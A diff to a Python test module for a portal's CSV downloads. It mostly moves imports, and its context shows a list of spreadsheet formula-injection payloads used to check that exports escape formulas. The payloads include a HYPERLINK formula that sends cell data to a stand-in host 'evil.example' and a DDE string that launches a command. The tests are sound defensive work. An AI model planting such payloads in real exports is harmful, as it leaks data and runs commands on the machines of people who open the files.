@@ -16,7 +16,7 @@ from sqlalchemy import select
 from sqlalchemy.orm import Session
 
 from portal import csvfile
-from portal.models import Agency
+from portal.reference.models import Agency
 
 ATTACKS = ['=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
            "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1"]
@@ -51,8 +51,8 @@ def test_the_product_has_one_csv_writer() -> None:
 
 def test_the_persons_download_escapes_formulas(client: FlaskClient, session: Session,
                                                demo: Any) -> None:
+    from tests.consent.selfservice.helpers import linked_account
     from tests.identity_helpers import login
-    from tests.portal.selfservice.helpers import linked_account
 
     # Given an agency whose SAR contact was set to a formula
     agency = session.scalar(select(Agency).where(Agency.slug == "fenshire-police"))
